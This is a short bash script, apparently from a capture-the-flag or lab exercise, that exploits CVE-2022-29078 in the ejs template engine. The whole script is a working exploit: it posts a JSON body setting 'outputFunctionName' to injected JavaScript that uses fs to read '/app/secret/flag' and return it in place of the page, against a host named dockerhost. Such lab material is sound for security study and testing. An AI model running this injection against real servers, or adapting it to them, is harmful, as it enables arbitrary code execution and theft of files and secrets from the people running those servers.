#!/bin/bash
# CVE-2022-29078: the option outputFunctionName becomes part of the code that ejs compiles. Here it returns a file in place of the page.
code="x;return process.mainModule.require('fs').readFileSync('/app/secret/flag','utf8');s"
curl --silent --max-time 10 --data "{\"settings\":{\"view options\":{\"outputFunctionName\":\"$code\"}}}" http://dockerhost:8080/
